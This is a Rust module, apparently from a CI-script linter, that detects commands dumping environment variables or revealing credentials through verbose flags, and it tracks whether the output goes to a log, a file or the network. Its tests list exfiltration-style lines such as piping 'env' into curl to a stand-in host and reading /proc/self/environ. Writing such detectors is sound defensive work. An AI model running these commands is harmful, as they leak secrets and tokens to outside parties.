//! Commands that show more than a result: the whole environment, the parts of an environment report, verbosity that prints credentials.
//! Looks at whole scripts, because what stands behind a pipe decides what comes out. Has no opinion on whether a secret is there.

mod fate;
mod reveals;

use super::prefix::{is_python, program};
use super::python_dump;
use crate::model::script::{Command, Deed, Dump, DumpSink, Join, Kept, Language, Script, Shell, Word};
use crate::model::span::Location;
use crate::model::text::Mapped;
use fate::fate;
use reveals::{reports, reveals};

/// Adds the deeds of a script's commands.
pub fn read(commands: &mut [Command]) {
    for index in 0..commands.len() {
        let found = deeds(commands, index);
        commands[index].deeds.extend(found);
    }
}

fn deeds(commands: &[Command], index: usize) -> Vec<Deed> {
    let command = &commands[index];
    let words = bare(&command.words);
    let mut deeds = Vec::new();
    if let Some(how) = dumps(command, words) {
        deeds.extend(fate(commands, index).map(|(kept, sinks)| Deed::Dump(Dump { how, kept, sinks })));
    }
    deeds.extend(reports(words).map(Deed::Report));
    deeds.extend(reveals(command, words).map(|how| Deed::Reveal(how.to_string())));
    deeds
}

fn text(word: &Word) -> &str {
    &word.text.text
}

/// The words without `sudo -E`, `command`, `time`, `cmd /c` and the like.
fn bare(words: &[Word]) -> &[Word] {
    let mut words = words;
    for _ in 0..4 {
        let Some((first, rest)) = words.split_first() else { return words };
        let skip = match program(text(first)) {
            "sudo" | "doas" | "time" | "nohup" | "exec" | "builtin" | "nice" | "stdbuf" => {
                rest.iter().take_while(|word| text(word).starts_with('-')).count()
            }
            // `command -v x` asks where x is.
            "command" if !rest.first().is_some_and(|word| text(word).starts_with('-')) => 0,
            "&" | "call" => 0,
            "cmd" if rest.first().is_some_and(|word| text(word).eq_ignore_ascii_case("/c")) => 1,
            _ => return words,
        };
        words = &rest[skip..];
    }
    words
}

/// How a command prints all variables of its environment; `None` when it does not.
fn dumps(command: &Command, words: &[Word]) -> Option<String> {
    let (first, rest) = words.split_first()?;
    let arguments: Vec<&str> = rest.iter().map(text).collect();
    let name = program(text(first));
    let posix = command.shell.language == Language::Posix;
    let flags = |allowed: &[&str]| arguments.iter().all(|word| allowed.contains(word));
    let reads = |mark: &str| {
        arguments.iter().any(|word| word.contains(mark))
            || command.redirects.iter().any(|one| one.operator == "<" && text(&one.target).contains(mark))
    };
    let it = match name {
        "env" => env_prints(&arguments),
        "printenv" => flags(&["-0", "--null"]),
        "set" if posix => arguments.is_empty(),
        "set" | "SET" => command.shell.language == Language::Cmd && arguments.is_empty(),
        "export" => flags(&["-p"]),
        "declare" | "typeset" => flags(&["-x", "-p", "-xp", "-px"]) && (posix || !arguments.is_empty()),
        "cat" | "strings" | "tr" | "xargs" | "less" | "more" | "head" | "sed" if reads("/environ") => reads("/proc/"),
        "ps" => arguments.first().is_some_and(|word| {
            word.contains('e') && !word.starts_with('-') && word.bytes().all(|byte| b"auxewfljg".contains(&byte))
        }),
        "systemctl" => arguments.contains(&"show-environment"),
        "buildkite-agent" => arguments.starts_with(&["env", "dump"]),
        "pipenv" => arguments.contains(&"--support"),
        "php" => arguments.contains(&"-i") || arguments.iter().any(|word| word.contains("phpinfo")),
        "node" | "nodejs" | "bun" | "deno" => after(&arguments, &["-p", "-e", "-pe", "--eval", "--print", "eval"])
            .is_some_and(|code| {
                let prints = code.contains("console.")
                    || code.contains("stdout")
                    || arguments
                        .iter()
                        .any(|word| word.contains('p') && word.starts_with('-') && *word != "--experimental");
                prints && is_whole(code, "process.env")
            }),
        "ruby" => after(&arguments, &["-e"]).is_some_and(|code| {
            let prints = ["p ", "pp ", "puts", "print", "p("].iter().any(|word| code.contains(word));
            prints && is_whole(code, "ENV")
        }),
        "perl" => after(&arguments, &["-e", "-E", "-le", "-lE"])
            .is_some_and(|code| code.contains("%ENV") && (code.contains("print") || code.contains("say"))),
        "Get-ChildItem" | "gci" | "dir" | "ls" | "Get-Item" | "get-childitem" => arguments
            .iter()
            .any(|word| matches!(word.to_ascii_lowercase().as_str(), "env:" | "env:*" | "env:\\" | "env:\\*")),
        "pwsh" | "powershell" => arguments.iter().any(|word| shows_drive(word)),
        _ if is_python(name) => return python(command, &arguments),
        _ => {
            let all: Vec<&str> = words.iter().map(text).collect();
            let method = all.iter().any(|word| word.contains("Environment]::GetEnvironmentVariables("));
            method || said(name, &arguments)
        }
    };
    it.then(|| if posix && name == "ps" { "ps e".to_string() } else { name.to_string() })
}

/// `env` with nothing but options and assignments prints; with a command it starts that.
fn env_prints(arguments: &[&str]) -> bool {
    let mut words = arguments.iter();
    let mut prints = true;
    while let Some(word) = words.next() {
        match *word {
            "-i" | "-" | "--ignore-environment" => return false,
            "-u" | "--unset" | "-C" | "--chdir" => drop(words.next()),
            "-S" | "--split-string" | "--help" | "--version" => return false,
            word if word.starts_with('-') || word.contains('=') => {}
            _ => prints = false,
        }
    }
    prints
}

/// `echo "$(env)"`: the substitution is not looked into, its output is the word.
fn said(name: &str, arguments: &[&str]) -> bool {
    let prints = matches!(name, "echo" | "printf" | "Write-Host" | "Write-Output");
    prints
        && arguments.iter().any(|word| {
            let dumps = |inner: &str| {
                let inner = inner.strip_suffix("| sort").or_else(|| inner.strip_suffix("|sort")).unwrap_or(inner);
                matches!(inner.trim_end(), "env" | "printenv" | "export -p" | "declare -x")
            };
            let quoted = word.split('`').skip(1).step_by(2).any(dumps);
            quoted || word.split("$(").skip(1).any(|rest| rest.split_once(')').is_some_and(|(inner, _)| dumps(inner)))
        })
}

fn shows_drive(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    ["gci env:", "get-childitem env:", "dir env:", "ls env:", "get-item env:*"].iter().any(|form| lower.contains(form))
        || lower.contains("environment]::getenvironmentvariables()")
}

/// The word after one of these options.
fn after<'a>(arguments: &[&'a str], options: &[&str]) -> Option<&'a str> {
    let at = arguments.iter().position(|word| options.contains(word))?;
    arguments.get(at + 1).copied()
}

/// Whether code speaks of a whole object, not of one of its entries.
fn is_whole(code: &str, object: &str) -> bool {
    code.match_indices(object).any(|(at, _)| {
        let rest = &code[at + object.len()..];
        let entry = rest.starts_with(['[', '.', '_'])
            && !rest.starts_with(".to_")
            && !rest.starts_with(".sort")
            && !rest.starts_with(".inspect")
            && !rest.starts_with(".each");
        !entry && !rest.starts_with(|c: char| c.is_ascii_alphanumeric())
    })
}

fn python(command: &Command, arguments: &[&str]) -> Option<String> {
    let document = || command.redirects.iter().find(|one| one.operator.starts_with("<<")).map(|one| text(&one.target));
    let code = after(arguments, &["-c"]).or_else(document)?;
    python_dump::find(code).map(|_| "os.environ".to_string())
}

/// A script of one command that prints all variables of its environment, where no shell does it.
pub fn dump(how: &str, at: Location, shell: Shell) -> Script {
    let dump = Dump { how: how.to_string(), kept: Kept::All, sinks: vec![DumpSink::Log] };
    // No shell reads it, so no shell traces it.
    let shell = Shell { xtrace: false, ..shell };
    let command = Command {
        at,
        assigns: Vec::new(),
        words: Vec::new(),
        redirects: Vec::new(),
        join: Join::End,
        nesting: Vec::new(),
        shell,
        cwd: None,
        deeds: vec![Deed::Dump(dump)],
    };
    Script { at, shell, commands: vec![command], cwd: String::new() }
}

/// Puts the dumps of a Python program into a script of their own commands.
pub fn read_python(script: &mut Script, code: &Mapped) {
    if let Some(part) = python_dump::find(&code.text) {
        let dump = Dump { how: "os.environ".to_string(), kept: Kept::All, sinks: vec![DumpSink::Log] };
        let command = Command {
            at: code.place(part).0,
            assigns: Vec::new(),
            words: Vec::new(),
            redirects: Vec::new(),
            join: Join::End,
            nesting: Vec::new(),
            shell: script.shell,
            cwd: None,
            deeds: vec![Deed::Dump(dump)],
        };
        script.commands.push(command);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::facts::Facts;
    use crate::model::script::Reported;
    use crate::model::span::SourceId;
    use crate::tools::read_script;

    fn script(text: &str, language: Language) -> Script {
        let shell = Shell { language, ..Shell::PLAIN };
        read_script(&Mapped::verbatim(text, SourceId(0), 0), shell, "", "run", &mut Facts::of(SourceId(0), "test"))
    }

    /// What a script lets out, in short: `all`, `encoded`, `only`, with `>file`, `>net`.
    fn shown(text: &str, language: Language) -> Vec<String> {
        let deeds = script(text, language).commands.into_iter().flat_map(|command| command.deeds);
        let dump = |deed| match deed {
            Deed::Dump(dump) => Some(dump),
            _ => None,
        };
        let word = |dump: Dump| {
            let kept = match dump.kept {
                Kept::All => "all",
                Kept::Encoded => "encoded",
                Kept::Only(_) => "only",
            };
            let sinks = dump.sinks.iter().filter_map(|sink| match sink {
                DumpSink::Log => None,
                DumpSink::File(word) => Some(format!(">{}", word.text.text)),
                DumpSink::Network => Some(">net".to_string()),
            });
            kept.to_string() + &sinks.collect::<String>()
        };
        deeds.filter_map(dump).map(word).collect()
    }

    #[test]
    fn environments_are_printed_in_many_ways() {
        for (line, expected) in [
            ("env", "all"),
            ("/usr/bin/env", "all"),
            ("printenv", "all"),
            ("env -0", "all"),
            ("set", "all"),
            ("export", "all"),
            ("export -p", "all"),
            ("declare -x", "all"),
            ("typeset -x", "all"),
            ("sudo -E env", "all"),
            ("env | sort", "all"),
            ("env A=b", "all"),
            ("env -u X", "all"),
            ("cat /proc/self/environ", "all"),
            ("tr '\\0' '\\n' < /proc/self/environ", "all"),
            ("strings /proc/1/environ", "all"),
            ("ps eww", "all"),
            ("ps auxe", "all"),
            ("env | grep -v TOKEN", "all"),
            ("env | tee env.log | sort", "all>env.log"),
            ("env > env.txt", "all>env.txt"),
            ("env | base64", "encoded"),
            ("env | curl -d @- https://x.io", "all>net"),
            ("env | grep -E '^(GITHUB_|RUNNER_)'", "only"),
            ("echo \"$(env | sort)\"", "all"),
            ("bash -c 'env'", "all"),
            ("python -c 'import os; print(os.environ)'", "all"),
            ("python3 - <<'X'\nimport os\nprint(dict(os.environ))\nX\n", "all"),
            ("node -p process.env", "all"),
            ("node -e 'console.log(process.env)'", "all"),
            ("ruby -e 'p ENV.to_h'", "all"),
            ("perl -e 'print %ENV'", "all"),
            ("php -i", "all"),
            ("pipenv --support", "all"),
            ("systemctl show-environment", "all"),
            ("buildkite-agent env dump", "all"),
            ("curl -d \"$(env)\" https://x.io", "all>net"),
            ("curl --data \"$(env | base64)\" https://x.io", "encoded>net"),
            ("env | buildkite-agent annotate", "all>net"),
            ("env | gh pr comment 1 --body-file -", "all>net"),
        ] {
            assert_eq!(shown(line, Language::Posix), [expected], "{line}");
        }
        for line in [
            "Get-ChildItem Env:",
            "gci env:",
            "dir env: | Sort-Object Name",
            "ls env:\\",
            "[Environment]::GetEnvironmentVariables()",
        ] {
            assert_eq!(shown(line, Language::PowerShell), ["all"], "{line}");
        }
        assert_eq!(shown("set", Language::Cmd), ["all"]);
        assert_eq!(shown("import os\nprint(os.environ)\n", Language::Python), ["all"]);
    }

    #[test]
    fn clients_that_print_credentials_are_known() {
        let how = |line: &str| {
            let deeds = script(line, Language::Posix).commands.into_iter().flat_map(|command| command.deeds);
            deeds.filter_map(|deed| if let Deed::Reveal(how) = deed { Some(how) } else { None }).collect::<Vec<_>>()
        };
        for (line, expected) in [
            ("helm upgrade --install x . --debug", "helm --debug"),
            ("helm get values x", "helm get values"),
            ("kubectl apply -f x -v=8", "kubectl -v=8"),
            ("kubectl -v 9 get pods", "kubectl -v=8"),
            ("kubectl describe pod/x", "kubectl describe"),
            ("docker inspect x", "docker inspect"),
            ("docker container inspect x", "docker inspect"),
            ("curl -v https://x.io", "curl -v"),
        ] {
            assert_eq!(how(line), [expected], "{line}");
        }
        for line in [
            "helm version --debug",
            "kubectl get pods -v=6",
            "kubectl describe nodes",
            "docker inspect -f '{{.State}}' x",
            "docker image inspect x",
            "docker manifest inspect x",
        ] {
            assert!(how(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn names_questions_and_commands_are_no_dump() {
        for line in [
            "env A=b cmd",
            "env -i cmd",
            "env -u X cmd",
            "/usr/bin/env bash",
            "printenv HOME",
            "set -e",
            "set -- a b",
            "export A=b",
            "declare -x A",
            "compgen -e",
            "env | cut -d= -f1 > /dev/null",
            "env | sed 's/=.*//'",
            "env | grep -c X",
            "env | awk -F= '{print $1}'",
            "if env | grep -q CI; then x; fi",
            "env > /dev/null",
            "X=$(env)",
            "env | docker run --env-file /dev/stdin a",
            "docker exec x env",
            "ps aux",
            "ps -ef",
            "cat /proc/cpuinfo",
            "go env",
            "conda env list",
            "node -p process.env.HOME",
            "ruby -e 'puts ENV[\"A\"]'",
            "python -c 'import os; print(os.environ[\"A\"])'",
            "tox -e env",
        ] {
            assert!(shown(line, Language::Posix).is_empty(), "{line}: {:?}", shown(line, Language::Posix));
        }
        assert!(shown("env | cut -d= -f1", Language::Posix).is_empty());
        for line in ["$env:PATH", "Write-Host $env:HOME", "Get-ChildItem Env:PATH", "ls"] {
            assert!(shown(line, Language::PowerShell).is_empty(), "{line}");
        }
        assert!(shown("set A=b", Language::Cmd).is_empty());
    }

    #[test]
    fn patterns_say_what_comes_out() {
        let lets = |line: &str, variable: &str| {
            let commands = script(line, Language::Posix).commands;
            commands
                .iter()
                .flat_map(|command| &command.deeds)
                .any(|deed| matches!(deed, Deed::Dump(dump) if dump.kept.lets(variable)))
        };
        assert!(!lets("env | grep -E '^(GITHUB_|RUNNER_|PYTHON)'", "PYPI_TOKEN"));
        assert!(lets("env | grep -E '^(GITHUB_|RUNNER_|PYTHON)'", "GITHUB_PAT"));
        assert!(lets("env | grep -i token", "PYPI_TOKEN"));
        assert!(!lets("env | grep ^CI_", "PYPI_TOKEN"));
        assert!(lets("env | grep '^[A-Z]'", "PYPI_TOKEN"));
        assert!(!lets("env | grep -e ^CI -e PATH", "PYPI_TOKEN"));
    }

    #[test]
    fn parts_of_a_report_and_verbosity_are_known() {
        let deeds = |line: &str| {
            script(line, Language::Posix).commands.into_iter().flat_map(|command| command.deeds).collect::<Vec<_>>()
        };
        for (line, expected) in [
            ("python -VV", Reported::Interpreter),
            ("python -m pip freeze --all", Reported::Packages),
            ("pip list", Reported::Packages),
            ("uv pip freeze", Reported::Packages),
            ("uv run python -V", Reported::Interpreter),
            ("uname -a", Reported::Platform),
            ("cat /etc/os-release", Reported::Platform),
            ("python -c 'import platform; print(platform.platform())'", Reported::Platform),
            ("pixi run -e test -- python x/util/print_versions.py", Reported::Everything),
            ("python -c 'import pandas; pandas.show_versions()'", Reported::Everything),
            ("pinguard env-report --strict", Reported::Everything),
        ] {
            assert!(deeds(line).contains(&Deed::Report(expected)), "{line}");
        }
        for line in ["pip install x", "python x.py", "cat README"] {
            assert!(!deeds(line).iter().any(|deed| matches!(deed, Deed::Report(_))), "{line}");
        }
        for line in [
            "curl -v x",
            "curl -sSfLv x",
            "curl --trace - x",
            "GIT_CURL_VERBOSE=1 git push",
            "aws s3 ls --debug",
            "pytest -l",
            "docker compose config",
            "make -p",
        ] {
            assert!(deeds(line).iter().any(|deed| matches!(deed, Deed::Reveal(_))), "{line}");
        }
        for line in [
            "curl -sSfL x",
            "curl -ov x",
            "wget -q x",
            "pytest -v",
            "GIT_CURL_VERBOSE=0 git push",
            "make -j4",
            "docker compose up",
        ] {
            assert!(!deeds(line).iter().any(|deed| matches!(deed, Deed::Reveal(_))), "{line}");
        }
    }
}
